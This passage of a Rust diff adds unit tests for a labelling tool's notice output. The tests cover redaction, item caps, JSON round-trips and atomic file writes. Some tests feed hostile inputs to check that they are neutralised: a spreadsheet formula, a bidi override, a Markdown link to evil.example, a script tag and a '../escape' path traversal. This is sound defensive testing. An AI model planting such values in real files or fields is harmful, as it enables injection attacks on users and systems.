+        let csv = String::from_utf8(n.to_csv().unwrap()).unwrap();
+        let line = csv.lines().nth(1).unwrap();
+        assert_eq!(line, "\"b-000042\",\"'=1+2\"\";=1+2\",\"label_suspected\"");
+        // Read back with a standard CSV reader: the value is the neutralised text, one cell.
+        let mut r = csv::Reader::from_reader(csv.as_bytes());
+        let rec = r.records().next().unwrap().unwrap();
+        assert_eq!(&rec[1], "'=1+2\";=1+2");
+        assert_eq!(rec.len(), 3);
+    }
+
+    #[test]
+    fn default_disclosure_hides_scores_and_proposed_labels() {
+        let n = quarantined().redacted(&NoticeSettings::default());
+        assert_eq!(n.verdict, NoticeVerdict::Quarantined);
+        assert!(n.repair_cost.is_none());
+        assert!(n
+            .items
+            .iter()
+            .all(|i| i.suspicion.is_none() && i.proposed_label.is_none()));
+        assert_eq!(n.items.len(), 2);
+        let json = serde_json::to_string(&n).unwrap();
+        assert!(!json.contains("0.93") && !json.contains("PET"), "{json}");
+        // The policy's numbers are gone from the reasons too.
+        assert!(!json.contains("0.3000"), "{json}");
+        assert!(n.reasons.iter().any(|r| r.code == "cold_start_repair_cost"));
+        assert!(json.contains(SUSPICION_SENTENCE));
+    }
+
+    #[test]
+    fn reviewer_can_disclose_proposed_labels_and_settings_can_disclose_scores() {
+        let mut n = quarantined();
+        n.disclosure.by_reviewer = true;
+        n.disclosure.proposed_labels = true;
+        let r = n.redacted(&NoticeSettings::default());
+        assert_eq!(r.items[0].proposed_label.as_deref(), Some("PET"));
+        assert!(r.items[0].suspicion.is_none());
+        let s = NoticeSettings {
+            disclose_scores: true,
+            ..NoticeSettings::default()
+        };
+        let r = quarantined().redacted(&s);
+        assert_eq!(r.items[0].suspicion, Some(0.93));
+        assert_eq!(r.repair_cost, Some(0.3));
+        assert!(r.items[0].proposed_label.is_none());
+    }
+
+    #[test]
+    fn items_are_capped() {
+        let mut n = quarantined();
+        n.items = (0..10)
+            .map(|i| NoticeItem {
+                id: format!("i{i}"),
+                reasons: vec!["label_suspected".into()],
+                proposed_label: None,
+                suspicion: None,
+            })
+            .collect();
+        n.items_listed_total = 10;
+        let r = n.redacted(&NoticeSettings {
+            max_items: 3,
+            ..NoticeSettings::default()
+        });
+        assert_eq!(r.items.len(), 3);
+        assert!(r.items_truncated);
+        assert_eq!(r.items_listed_total, 10);
+    }
+
+    #[test]
+    fn markdown_escapes_and_strips_vendor_strings() {
+        let mut n = quarantined();
+        // Bidi override (U+202E) to reverse displayed text, a newline to break out of the table,
+        // Markdown/HTML syntax to inject a link and a script tag.
+        n.file_name = Some("evil\u{202E}gpj.csv\n# Injected heading".into());
+        n.items[1].id = "[click](http://evil.example) <script>alert(1)</script> | x".into();
+        let md = n
+            .redacted(&NoticeSettings::default())
+            .to_markdown(&NoticeSettings::default());
+        assert!(!md.contains('\u{202E}'));
+        assert!(!md.contains("\n# Injected"), "{md}");
+        assert!(
+            md.contains("\\[click\\]\\(http\\:\\/\\/evil\\.example\\)"),
+            "{md}"
+        );
+        assert!(md.contains("\\<script\\>"), "{md}");
+        assert!(!md.contains("<script>"));
+        // The table row for the item stays one row with two cells (escaped pipe).
+        let row = md.lines().find(|l| l.contains("click")).unwrap();
+        assert_eq!(
+            row.matches(" | ").count() - row.matches("\\| ").count(),
+            1,
+            "{row}"
+        );
+        assert!(md.contains(SUSPICION_SENTENCE.split(':').next().unwrap()));
+    }
+
+    #[test]
+    fn sanitize_caps_length_and_strips_c0_c1_bidi() {
+        let s = format!("a\u{0}b\u{1b}[31mc\u{85}d\u{2067}e{}", "x".repeat(300));
+        let t = sanitize_text(&s, 10);
+        assert_eq!(t.chars().count(), 10);
+        assert!(t.ends_with('…'));
+        assert!(t.starts_with("ab[31mcde"));
+        assert!(!t.chars().any(is_unsafe_char));
+    }
+
+    #[test]
+    fn notice_json_round_trips_and_uses_rfc3339_utc() {
+        let n = quarantined().redacted(&NoticeSettings::default());
+        let v = serde_json::to_value(&n).unwrap();
+        assert_eq!(v["type"], "urn:labelweir:notice:quarantined");
+        assert_eq!(v["instance"], "urn:labelweir:batch:b-000042:quarantined");
+        assert_eq!(v["received_at"], "2026-03-01T08:00:00.000Z");
+        let back: Notice = serde_json::from_value(v).unwrap();
+        assert_eq!(back, n);
+    }
+
+    #[test]
+    fn write_notice_is_atomic_and_names_files_by_stem() {
+        let dir = tempfile::tempdir().unwrap();
+        let vd = dir.path().join("notices").join("sortright");
+        let paths = write_notice(&vd, &quarantined(), &NoticeSettings::default()).unwrap();
+        let names: Vec<String> = paths
+            .iter()
+            .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
+            .collect();
+        assert_eq!(
+            names,
+            ["b-000042.json", "b-000042.md", "b-000042.items.csv"]
+        );
+        let mut rej = quarantined();
+        rej.verdict = NoticeVerdict::Rejected;
+        let paths = write_notice(&vd, &rej, &NoticeSettings::default()).unwrap();
+        assert!(paths[0].ends_with("b-000042.rejected.json"));
+        // No temporary files are left behind.
+        let left: Vec<_> = std::fs::read_dir(&vd)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .filter(|n| n.starts_with('.'))
+            .collect();
+        assert!(left.is_empty(), "{left:?}");
+        let mut bad = quarantined();
+        bad.batch_id = "../escape".into();
+        assert!(write_notice(&vd, &bad, &NoticeSettings::default()).is_err());
+    }
+}
